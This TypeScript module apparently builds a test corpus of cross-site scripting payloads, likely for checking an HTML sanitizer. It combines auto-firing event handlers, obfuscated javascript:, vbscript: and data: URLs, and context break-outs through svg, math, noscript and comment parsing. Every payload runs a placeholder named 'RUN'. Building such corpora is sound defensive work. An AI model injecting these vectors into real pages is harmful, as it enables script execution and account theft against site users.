/**
 * Attacks made by combination, in an order that never changes: what runs by itself with every way to write a handler,
 * every attribute that holds an address with every way to hide a scheme, and every place that is read differently
 * with what breaks out of it.
 */

import { type Attack, attacksOf } from './attack.ts';

/** Elements, each with a handler that fires without a visitor. */
const firing: readonly (readonly [element: string, handler: string])[] = [
  ['img src=x', 'onerror'],
  ['svg', 'onload'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['iframe', 'onload'],
  ['object data=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['a href=# autofocus', 'onfocus'],
  ['p tabindex=0 autofocus', 'onfocus'],
  ['td', 'onmouseover'],
  ['blockquote', 'onpointerenter'],
  ['math', 'onclick'],
  ['body', 'onload'],
  ['style', 'onload'],
  ['x-a', 'onclick'],
];

const handlers: readonly ((element: string, handler: string) => string)[] = [
  (element, handler) => `<${element} ${handler}=RUN>x`,
  (element, handler) => `<${element.toUpperCase()} ${handler.toUpperCase()}="RUN">x`,
  (element, handler) => `<${element.replaceAll(' ', '/')}/${handler}='RUN'>x`,
  (element, handler) => `<${element}\n\f${handler}\t=\rRUN\n>x`,
  (element, handler) => `<${element} title=">" ${handler}=&#103;lobalThis&period;RUN>x`,
  (element, handler) => `<p><b><${element} ${handler}=RUN></b>x</p></b>`,
];

/** Attributes that hold an address. */
const holders: readonly string[] = [
  '<a href="@">x</a>',
  '<a xlink:href="@">x</a>',
  '<area href="@">',
  '<img src="@">',
  '<form action="@"><button>x</button></form>',
  '<button formaction="@">x</button>',
  '<iframe src="@"></iframe>',
  '<embed src="@">',
  '<object data="@"></object>',
  '<svg><a href="@"><text>x</text></a></svg>',
  '<svg><use xlink:href="@"/></svg>',
  '<svg><animate attributeName=href to="@"/></svg>',
  '<math href="@">x</math>',
  '<video poster="@" src="@"></video>',
  '<link rel=stylesheet href="@">',
  '<blockquote cite="@">x</blockquote>',
];

const addresses: readonly string[] = [
  'javascript:RUN',
  'JAVASCRIPT:RUN',
  'java&#10;script:RUN',
  '&#x1;javascript:RUN',
  'javascript&colon;RUN',
  '\tjavascript:RUN',
  'vbscript:RUN',
  'data:text/html,<script>RUN</script>',
  'data:application/xhtml+xml,<script xmlns=http://www.w3.org/1999/xhtml>RUN</script>',
];

/** Places in which markup is read differently, with what ends each. */
const places: readonly (readonly [begin: string, end: string])[] = [
  ['<svg>', '</svg>'],
  ['<svg><style>', '</style></svg>'],
  ['<svg><title>', '</title></svg>'],
  ['<math>', '</math>'],
  ['<math><mtext><mglyph><style>', '</style>'],
  ['<math><annotation-xml encoding=text/html>', '</annotation-xml></math>'],
  ['<noscript>', '</noscript>'],
  ['<template>', '</template>'],
  ['<textarea>', '</textarea>'],
  ['<title>', '</title>'],
  ['<style>', '</style>'],
  ['<xmp>', '</xmp>'],
  ['<noembed>', '</noembed>'],
  ['<select><option>', '</option></select>'],
  ['<table><tr>', '</tr></table>'],
  ['<!--', '-->'],
  ['<pre><code>', '</code></pre>'],
  ['<details><summary>', '</summary></details>'],
];

const escapes: readonly ((begin: string, end: string) => string)[] = [
  (begin, end) => `${begin}<img src=x onerror=RUN>${end}`,
  (begin, end) => `${begin}<p title="${end}<img src=x onerror=RUN>">${end}`,
  (begin, end) => `${begin}${end}${begin}<a href="${begin}"><img alt="${end}" src=x onerror=RUN>`,
];

const combine = <A, B, C>(left: readonly A[], right: readonly B[], join: (left: A, right: B) => C): C[] =>
  left.flatMap((one) => right.map((other) => join(one, other)));

export const generated: readonly Attack[] = [
  ...attacksOf(
    'handlers',
    combine(firing, handlers, ([element, handler], write) => write(element, handler)),
  ),
  ...attacksOf(
    'schemes',
    combine(holders, addresses, (holder, address) => holder.replaceAll('@', () => address)),
  ),
  ...attacksOf(
    'places',
    combine(places, escapes, ([begin, end], write) => write(begin, end)),
  ),
];
